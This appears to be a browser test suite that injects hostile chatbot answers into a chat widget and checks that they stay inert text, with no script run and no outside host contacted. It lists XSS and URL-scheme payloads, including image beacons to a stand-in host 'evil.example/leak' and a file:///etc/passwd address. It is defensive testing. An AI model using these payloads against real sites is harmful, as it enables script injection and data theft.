"""What a hostile model or bot file puts into an answer is text in the widget, or nothing: no script runs, no host is asked."""

import json
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from typing import Any

import pytest
from playwright.async_api import Dialog, Page, Route, expect
from tests.browser.conftest import OpenPage, Watched
from tests.browser.test_inbox import HOSTILE
from tests.browser.test_widget import ROOT, opened, say, shop, tag
from tests.program import Desk, Program
from tests.web.rasa_wire import WIRE

EVIL = "evil.example"
TEXTS = (
    *HOSTILE,
    f"![picture](https://{EVIL}/leak?q=secret) <img src='https://{EVIL}/x.png'>",
    f"[press here](https://{EVIL}/) <a href='javascript:alert(1)' onclick=alert(1)>here</a>",
    f"<link rel=stylesheet href=https://{EVIL}/x.css><style>@import 'https://{EVIL}/x.css';</style>",
    f"<iframe src=https://{EVIL}/></iframe><object data=https://{EVIL}/></object><svg onload=alert(1)>",
    "<textarea></textarea></div></section><form action=//x><input autofocus onfocus=alert(1)>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    f"```html\n<script src=https://{EVIL}/x.js></script>\n```",
    "\u202ehttps://example.com/\u202d \u0007\ufeff\u2028\u2029",
    "x" * 20_000,
    "https://" + "a" * 5_000,
    "(" * 5_000 + "[" * 5_000,
)
ADDRESSES = (
    "javascript:alert(1)",
    " JaVaScRiPt:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    "javascript://%0aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    f"blob:https://{EVIL}/0",
    f"filesystem:https://{EVIL}/x",
    f"http://{EVIL}/x.png",
    f"//{EVIL}:80/x",
    f"ws://{EVIL}/",
    f"view-source:https://{EVIL}",
    "intent://x#Intent;scheme=javascript;end",
    "about:blank",
    f"https://{EVIL}/x.png",
    "https://",
    "\\\\server\\share",
)
LED = {"https:", "mailto:", "tel:"}
"""Where a link of an answer may lead, besides to the page's own host."""


@pytest.fixture
async def desk(program: Program) -> Desk:
    made = await program.desk(WIRE)
    await made.channel("web", {"title": "Northwind Audio"})
    program.forget_entrances()
    return made


def text_parts(text: str) -> list[dict[str, Any]]:
    """A text in every place where one can stand."""
    button = {"title": text, "payload": text}
    return [
        {"type": "text", "text": text},
        {"type": "text", "text": text, "sources": [{"title": text}]},
        {"type": "buttons", "text": text, "buttons": [button]},
        {"type": "buttons", "text": text, "quick": True, "buttons": [button]},
        {"type": "input", "text": text, "kind": text},
        {"type": "image", "alt": text},
        {"type": "attachment", "name": text},
        {"type": "cards", "cards": [{"title": text, "subtitle": text, "buttons": [button]}]},
        {"type": text, "text": text},
    ]


def address_parts(address: str) -> list[dict[str, Any]]:
    """An address in every place where one can stand."""
    return [
        {
            "type": "text",
            "text": f"See {address} and ({address})",
            "sources": [{"title": "Page", "url": address}],
        },
        {"type": "buttons", "text": "Which?", "buttons": [{"title": "There", "url": address}]},
        {"type": "buttons", "text": "Which?", "quick": True, "buttons": [{"title": "There", "url": address}]},
        {"type": "image", "url": address, "alt": "picture"},
        {"type": "attachment", "url": address, "name": "a.pdf"},
        {"type": "audio", "url": address, "title": "sound"},
        {"type": "video", "url": address, "title": "film"},
        {
            "type": "cards",
            "cards": [{"title": "Card", "image": address, "buttons": [{"title": "There", "url": address}]}],
        },
    ]


@asynccontextmanager
async def answered(
    desk: Desk, open_page: OpenPage, parts: list[dict[str, Any]], policy: str = ""
) -> AsyncIterator[tuple[Page, Watched, list[str]]]:
    """A page on which the program said `parts`: what the wire carries is changed on its way."""
    base = desk.program.client.base_url
    hostile = {"n": 9, "by": "ai", "at": 1_700_000_000, "parts": parts}
    ran: list[str] = []

    async def change(route: Route) -> None:
        answer = await route.fetch()
        text = await answer.text()
        before, _, data = text.rpartition("data: ")
        told = json.loads(data)
        told["lines"] = [*told["lines"], hostile]
        await route.fulfill(response=answer, body=f"{before}data: {json.dumps(told)}\n\n")

    async def refuse(dialog: Dialog) -> None:
        ran.append(dialog.message)
        await dialog.dismiss()

    async with shop(base, tag(desk), policy=policy) as url, open_page() as on:
        on.page.on("dialog", refuse)
        await on.page.route("**/messages*", change)
        page = await opened(on, url)
        await say(page, "tell me something about you")
        await expect(page.locator(".me .b", has_text="tell me something about you")).to_have_count(1)
        yield page, on, ran
        assert ran == []
        assert on.complaints == []
        assert on.hosts == {each.removeprefix("http://") for each in (url, base)}


# A page that allows everything: whatever would be asked for or run, would be.
ANYTHING = "default-src * 'unsafe-inline' 'unsafe-eval' data: blob:"
INSIDE = """() => {
    const roots = [];
    const walk = node => {
        for (const each of node.querySelectorAll("*")) if (each.shadowRoot) { roots.push(each.shadowRoot); walk(each.shadowRoot); }
    };
    walk(document);
    const every = roots.flatMap(root => [...root.querySelectorAll("*")]);
    return {
        tags: [...new Set(every.map(each => each.localName))].sort(),
        handlers: every.flatMap(each => each.getAttributeNames()).filter(name => name.startsWith("on")),
        links: every.filter(each => each.href).map(each => ({to: each.protocol, host: each.host, rel: each.rel, target: each.target})),
        sources: every.filter(each => each.src).map(each => each.src),
    };
}"""
FORBIDDEN = {"script", "style", "iframe", "object", "embed", "link", "math", "base", "meta", "audio", "video"}


@pytest.mark.parametrize("policy", ["", ANYTHING], ids=["strict", "loose"])
async def test_texts_of_a_hostile_model_are_texts(desk: Desk, open_page: OpenPage, policy: str) -> None:
    parts = [part for text in TEXTS for part in text_parts(text)]
    async with answered(desk, open_page, parts, policy) as (page, _, _ran):
        await expect(page.get_by_text(TEXTS[0], exact=True).first).to_be_visible()
        await expect(page.locator(".card").last).to_be_attached()
        found = await page.evaluate(INSIDE)
        assert not FORBIDDEN & set(found["tags"])
        assert found["handlers"] == found["sources"] == []
        for link in found["links"]:
            assert link["to"] in LED
            assert {"noopener", "noreferrer"} <= set(link["rel"].split())
            assert link["target"] == "_blank"


@pytest.mark.parametrize("policy", ["", ANYTHING], ids=["strict", "loose"])
async def test_addresses_of_a_hostile_bot_lead_nowhere_and_are_not_asked(
    desk: Desk, open_page: OpenPage, policy: str
) -> None:
    parts = [part for address in ADDRESSES for part in address_parts(address)]
    async with answered(desk, open_page, parts, policy) as (page, _, _ran):
        await expect(page.get_by_text("Card").first).to_be_attached()
        await page.evaluate("document.body.offsetHeight")
        found = await page.evaluate(INSIDE)
        here = await page.evaluate("location.host")
        assert not FORBIDDEN & set(found["tags"])
        assert found["handlers"] == []
        for link in found["links"]:
            assert link["to"] in LED or (link["to"], link["host"]) == ("http:", here)
        # Pressing whatever can be pressed runs nothing either.
        for each in await page.locator(".list button:enabled:not(.veil)").all():
            await each.dispatch_event("click")


async def test_what_the_model_writes_is_no_markup_while_it_is_being_written(
    desk: Desk, open_page: OpenPage
) -> None:
    base = desk.program.client.base_url
    drafts = "".join(f"event: draft\ndata: {json.dumps({'text': text})}\n\n" for text in TEXTS[:8])

    async def begun(route: Route) -> None:
        headers = {"content-type": "text/event-stream", "access-control-allow-origin": "*"}
        await route.fulfill(status=200, headers=headers, body=drafts)

    async with shop(base, tag(desk), policy=ANYTHING) as url, open_page() as on:
        await on.page.add_init_script(ROOT + "window.alert = () => console.error('ran');")
        await on.page.route("**/messages*", begun)
        page = await opened(on, url)
        await say(page, "hello")
        await expect(page.get_by_text("Waiting for connection").first).to_be_visible()
        found = await page.evaluate(INSIDE)
        assert not FORBIDDEN & set(found["tags"])
        # Nothing was said to the program, which has no conversation to listen to.
        assert [each for each in on.complaints if "(Not Found)" not in each] == []
        assert on.hosts == {each.removeprefix("http://") for each in (url, base)}
